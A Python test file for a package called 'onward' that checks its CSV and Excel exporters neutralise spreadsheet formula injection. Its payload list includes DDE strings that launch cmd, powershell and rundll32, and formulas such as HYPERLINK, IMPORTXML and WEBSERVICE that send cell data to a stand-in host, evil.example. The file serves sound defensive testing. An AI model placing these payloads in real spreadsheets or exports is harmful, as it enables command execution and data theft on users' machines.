"""No cell of any file that Onward writes is run by a spreadsheet, and what was written is read back
as it was meant.

Two hundred texts that some spreadsheet takes for a formula stand in every name of one little world;
each exporter then writes it.
"""

from __future__ import annotations

import ast
import csv
import re
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from itertools import product
from pathlib import Path

import pytest
from little import little

import onward
from onward.desk.judged_plan import JudgedPlan, proven_levels
from onward.desk.loads import loads
from onward.desk.plan_diff import ItineraryChange
from onward.events.event import Event
from onward.events.keys import Key, KeyKind
from onward.events.vocabulary import Status
from onward.formats.acceptance import write_acceptance
from onward.formats.changes import write_changes
from onward.formats.columns import names_unchecked
from onward.formats.covers import builtin_covers, read_cover
from onward.formats.csvfile import as_meant, csv_text, read_csv, unformula
from onward.formats.eventfile import read_events, write_events
from onward.formats.folder import read_folder, write_folder
from onward.formats.template import write_workbook as write_scenario
from onward.judge import verify
from onward.money.book import book
from onward.money.claim import Claim, ClaimVerdict
from onward.money.claim_record import record_of
from onward.money.fund import Fund, Pledge, Purchase, Receipt
from onward.money.order import Order
from onward.money.rates import Rates
from onward.numbers.flows import flows
from onward.numbers.movements import happened
from onward.options.board import board
from onward.options.options import Options
from onward.plan.greedy import greedy
from onward.publish.hxl import hxl
from onward.publish.press_workbook import write_press
from onward.publish.view import view
from onward.questions.claims import ClaimSeen
from onward.questions.flows import CountedFlows
from onward.questions.situation import situation
from onward.report.board import write_board
from onward.report.render.csv import write_csv
from onward.report.render.xlsx import write_xlsx
from onward.report.situation_page import write_situation
from onward.report.table import Sheet, Table
from onward.report.tables.claims import claims_table
from onward.report.tables.flows import flows_sheet
from onward.report.tables.replan import changes_table
from onward.report.workbook import write_workbook as write_plan_workbook
from onward.scenario import Scenario
from onward.scenario.change import ImposePolicy

PACKAGE = Path(onward.__file__).parent
BEGIN = (
    "=",
    "+",
    "-",
    "@",
    " =",
    "\t=",
    "\r=",
    "\n=",
    "\u00a0=",
    "\ufeff=",
    "\u3000=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "=+",
    "-@",
    "+=",
    "\v-",
)
BODY = (
    "1+1",
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"look")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "cmd|'/C powershell -e x'!_xlbgnm.A1",
    "A1",
    'INDIRECT("口罩"&1)',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)
PAYLOADS = tuple(begin + body for begin, body in product(BEGIN, BODY))
START = datetime(2020, 3, 2, tzinfo=UTC)


def live(cell: str) -> bool:
    """Whether some spreadsheet would run a cell of a CSV file; written apart from ``unformula``."""
    seen = cell.lstrip("".join(map(chr, range(33))) + "\u00a0\u3000\ufeff\u200b")
    try:
        float(cell)
        number = cell.isascii()
    except ValueError:
        number = False
    return not number and (seen[:1] in tuple("=+-@＝＋－＠") or cell[:1] in ("\t", "\r", "\n"))


def test_there_are_two_hundred_and_each_is_live() -> None:
    assert len(set(PAYLOADS)) == 200
    assert [p for p in PAYLOADS if not live(p) and not p.startswith("'")] == []


# -- one little world in which every name is one of them


@pytest.fixture(scope="module")
def world() -> Scenario:
    base = little("""
        as_of 2020-03-01
        fly F1 CNPVG>BELGG 2 10:00 > 2 22:00
        policy P1 inspection scope=CN directions=export from=3 known=1 hours=5
        cut C departure=F1 factor=0.9
        ship s CNPVG>BELGG p1 2x 10kg 0.1m3 ready=1 due=5 latest=9 units=5
    """)
    (one,) = base.shipments
    shipments = tuple(
        replace(one, id=f"S{n}", goods=p, consignee=p, shipper=p, party=p, hs="630790")
        for n, p in enumerate(PAYLOADS)
    )
    policies = tuple(
        replace(base.policies[0], id=f"P{n}", title=p, issuer=p, source=p, known_at=START)
        for n, p in enumerate(PAYLOADS)
    )
    departures = tuple(replace(d, carrier=PAYLOADS[0]) for d in base.departures)
    cuts = tuple(replace(c, cause=PAYLOADS[1], known_at=START) for c in base.cuts)
    places = tuple(replace(place, name=p) for place, p in zip(base.places, PAYLOADS, strict=False))
    return replace(
        base,
        name="=1+1",
        title=PAYLOADS[3],
        shipments=shipments,
        policies=policies,
        departures=departures,
        cuts=cuts,
        places=places,
    )


@pytest.fixture(scope="module")
def events() -> tuple[Event, ...]:
    told = []
    for n, p in enumerate(PAYLOADS):
        goods = (Key(KeyKind.SHIPMENT, f"S{n}", 1, 2),)
        shared = {"known_at": START, "what": goods, "source": p, "note": p, "by": p, "raw_code": p}
        told.append(
            Event(at=START, status=Status.DEPARTED, place="CNPVG", departure="F1", **shared)
        )
        told.append(
            Event(
                at=START + timedelta(hours=9),
                status=Status.HELD,
                place="BELGG",
                **{**shared, "known_at": START},
            )
        )
    return tuple(told)


@pytest.fixture(scope="module")
def fund() -> Fund:
    at = datetime(2020, 2, 1, tzinfo=UTC)
    orders = tuple(
        Purchase(
            order=f"O{n}", line=1, payers=("f",), buyer="b", supplier=p, consignee=p, goods=p,
            units=4, currency="USD", amount_minor=100,
            ordered_at=at, lot=f"L{n}", source=p,
        )
        for n, p in enumerate(PAYLOADS)
    )  # fmt: skip
    receipts = tuple(
        Receipt(receipt=f"R{n}", lot=f"L{n}", goods=p, nation="BE", units=3, at=at, source=p)
        for n, p in enumerate(PAYLOADS)
    )
    pledge = Pledge(
        pledge="p",
        fund="f",
        payer=PAYLOADS[0],
        currency="USD",
        amount_minor=10**6,
        at=at,
        qualifier="more than",
        source="s",
    )
    return Fund(pledges=(pledge,), grants=(), purchases=orders, receipts=receipts, rates=Rates(()))


@pytest.fixture(scope="module")
def told(world: Scenario) -> JudgedPlan:
    plan = greedy(world)
    return JudgedPlan(loads(world, plan), proven_levels(verify(world, plan)))


# -- what is written


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def in_workbook(path: Path) -> str:
    """All texts of a workbook, after seeing that nothing in it is run."""
    with zipfile.ZipFile(path) as archive:
        parts = {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.endswith(".xml")
        }
    assert not [name for name in parts if "externalLink" in name or "connections" in name]
    for name, text in parts.items():
        assert not re.search(r"<f[ >/]|<hyperlink|<ddeLink|t=\"e\"", text), name
        for defined in re.findall(r"<definedName [^>]*>([^<]*)<", text):
            assert re.fullmatch(r"('([^']|'')*'|\w+)!\$[A-Z$0-9:]+", defined), defined
    return "".join(
        text for name, text in parts.items() if "sharedStrings" in name or "worksheets" in name
    )


def at(folder: Path, name: str, write: Callable[[Path], object]) -> Path:
    write(folder / name)
    return folder / name


def queue_of(payloads: Iterable[str]) -> Table:
    """A claim for each text, which stands wherever a person may write."""
    order = Order(
        order="O", parcel="shipment:A#1-1", vendor="V", service="standard",
        shipped_on=date(2020, 3, 2), currency="USD", declared_minor=1, order_amount_minor=1,
        freight_minor=1,
    )  # fmt: skip
    claim = Claim(
        order=order, cover=read_cover(builtin_covers()[0]), as_of=START, known_to=START,
        verdict=ClaimVerdict.ELIGIBLE, path=(),
    )  # fmt: skip
    records = (replace(record_of(claim), claim=p, order=p, vendor=p) for p in payloads)
    return claims_table(ClaimSeen(claim=each, preview=True) for each in records)


def test_workbooks(
    world: Scenario, events: tuple[Event, ...], fund: Fund, told: JudgedPlan, tmp_path: Path
) -> None:
    now = START + timedelta(days=1)
    moves = happened(world, events, as_of=now, known_to=now)
    found = flows(moves, by=("goods", "party"))
    counted = CountedFlows(scenario=world, moves=moves, found=found)
    report = situation(world, events, as_of=now, known_to=now, judged_plan=told, fund=book(fund))
    queue = Sheet(title="Q", tables=(queue_of(PAYLOADS),))
    books = {
        "plan": at(tmp_path, "plan.xlsx", lambda path: write_plan_workbook(told, path)),
        "board": at(
            tmp_path, "board.xlsx", lambda path: write_board(board(Options(world, None)), path)
        ),
        "situation": at(tmp_path, "situation.xlsx", lambda path: write_situation(report, path)),
        "flows": at(
            tmp_path,
            "flows.xlsx",
            lambda path: write_xlsx(flows_sheet(counted), path),
        ),
        "claims": at(tmp_path, "claims.xlsx", lambda path: write_xlsx(queue, path)),
        "events": at(tmp_path, "events.xlsx", lambda path: write_events(events, path)),
        "scenario": at(tmp_path, "scenario.xlsx", lambda path: write_scenario(world, path)),
        "press": at(tmp_path, "press.xlsx", lambda path: write_press(view(fund), path)),
    }
    for name, path in books.items():
        text = in_workbook(path)
        found = [
            body
            for body in BODY
            if body.replace("&", "&amp;").replace('"', "&quot;") in text
            or body.replace("&", "&amp;") in text
        ]
        assert found == list(BODY), f"{name}: the texts are not in it, so this shows nothing"


def test_csv_files(world: Scenario, events: tuple[Event, ...], fund: Fund, tmp_path: Path) -> None:
    moves = happened(world, events, as_of=START + timedelta(days=1), known_to=None)
    found = flows(moves, by=("goods", "party"))
    counted = CountedFlows(scenario=world, moves=moves, found=found)
    changes = [
        ImposePolicy(id=f"I{n}", policy=policy, known_at=START)
        for n, policy in enumerate(world.policies)
    ]
    moved = [ItineraryChange(shipment=p, first=1, last=1, consignment="", tell=p, old=(), new=(),
    old_minutes_late=None, new_minutes_late=None,
                   cause=p, why=p) for p in PAYLOADS]  # fmt: skip
    write_folder(world, tmp_path / "world")
    files = {
        "folder": tmp_path / "world" / "shipments.csv",
        "policies": tmp_path / "world" / "policies.csv",
        "flows": at(
            tmp_path, "flows.csv", lambda path: write_csv(flows_sheet(counted)["flows"], path)
        ),
        "events": at(tmp_path, "events.csv", lambda path: write_events(events, path)),
        "changes": at(tmp_path, "changes.csv", lambda path: write_changes(changes, path)),
        "replan": at(tmp_path, "told.csv", lambda path: write_csv(changes_table(moved), path)),
        "hxl": at(
            tmp_path,
            "hxl.csv",
            lambda path: path.write_text(hxl(view(fund)), encoding="utf-8", newline=""),
        ),
    }
    for name, path in files.items():
        every = cells(path)
        assert [cell for cell in every if live(cell)] == [], name
        meant = {" ".join(as_meant(cell).split()) for cell in every}
        assert {" ".join(p.split()) for p in PAYLOADS} <= meant, (
            f"{name}: the texts are not in it, so this shows nothing"
        )


def test_what_is_wrong_with_a_file_is_told_in_a_safe_one(tmp_path: Path) -> None:
    columns = [["2020-03-02T00:00Z"] * 200, list(PAYLOADS), ["shipment:S1"] * 200]
    (tmp_path / "sent.csv").write_text(
        csv_text(("at", "status", "what"), columns), encoding="utf-8", newline=""
    )
    write_acceptance(read_events(tmp_path / "sent.csv"), tmp_path / "answer.csv")
    every = cells(tmp_path / "answer.csv")
    assert every.count("rejected") >= 200
    assert [cell for cell in every if live(cell)] == []


def test_what_was_written_is_read_as_it_was(
    world: Scenario, events: tuple[Event, ...], tmp_path: Path
) -> None:
    write_folder(world, tmp_path / "world")
    with names_unchecked():  # some begin with a mark that no name from outside may have
        again = read_folder(tmp_path / "world")
    # blanks around a cell are nobody's meaning
    assert [s.goods for s in again.shipments] == [p.strip() for p in PAYLOADS]
    assert [p.title for p in again.policies] == [p.strip() for p in PAYLOADS]
    assert (again.name, again.title, again.places[0].name) == (
        world.name,
        world.title,
        world.places[0].name,
    )
    write_events(events, tmp_path / "events.csv")
    found = read_events(tmp_path / "events.csv").events
    assert {event.note for event in found} == {event.note.strip() for event in events}


@pytest.mark.parametrize(
    "cell",
    [
        *PAYLOADS,
        "'",
        "''",
        "'=1",
        "''=1",
        "-",
        "=",
        "-5",
        "+1.5e3",
        "'s-Hertogenbosch",
        "",
        "口罩",
        "-5x",
    ],
)
def test_an_apostrophe_more_and_an_apostrophe_less(cell: str) -> None:
    assert as_meant(unformula(cell)) == cell
    assert not live(unformula(cell))


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    (tmp_path / "n.csv").write_text(
        csv_text(("n",), [["-12.5", "+3", "-1e-3", "-0"]]), encoding="utf-8"
    )
    assert (tmp_path / "n.csv").read_text(encoding="utf-8") == "n\n-12.5\n+3\n-1e-3\n-0\n"
    assert read_csv(tmp_path / "n.csv")[0].columns == [["-12.5", "+3", "-1e-3", "-0"]]


# -- nothing new writes past it


def calls(tree: ast.AST, *names: str) -> list[ast.Call]:
    return [
        n for n in ast.walk(tree) if isinstance(n, ast.Call) and ast.unparse(n.func).endswith(names)
    ]


def test_every_file_is_written_through_what_is_tried_here() -> None:
    for path in PACKAGE.rglob("*.py"):
        text, name = path.read_text(encoding="utf-8"), path.relative_to(PACKAGE).as_posix()
        if "csv." in text or "xlsxwriter" in text or "_formula(" in text or ".write_url" in text:
            tree = ast.parse(text)
            assert not calls(
                tree,
                ".write_formula",
                ".write_array_formula",
                ".write_dynamic_array_formula",
                ".write_url",
            ), name
            assert (
                not calls(tree, "csv.writer", "csv.DictWriter") or name == "formats/csvfile.py"
            ), f"{name}: use csvfile.csv_text"
            if calls(tree, "xlsxwriter.Workbook"):
                assert "'strings_to_formulas': False" in ast.unparse(tree), (
                    f"{name}: texts must stay texts"
                )
                assert "'strings_to_urls': False" in ast.unparse(tree), (
                    f"{name}: texts must stay texts"
                )


def test_the_browser_saves_as_safely() -> None:
    script = (PACKAGE / "report" / "tables.js").read_text(encoding="utf-8")
    (pattern,) = re.findall(r"const safe = /(.*?)/\.test", script)
    tried = re.compile(pattern)
    assert [p for p in PAYLOADS if live(p) and not tried.search(p.strip("\ufeff").strip())] == []
    assert not [
        p.name
        for p in PACKAGE.rglob("*.js")
        if p.name != "tables.js" and "text/csv" in p.read_text(encoding="utf-8")
    ]
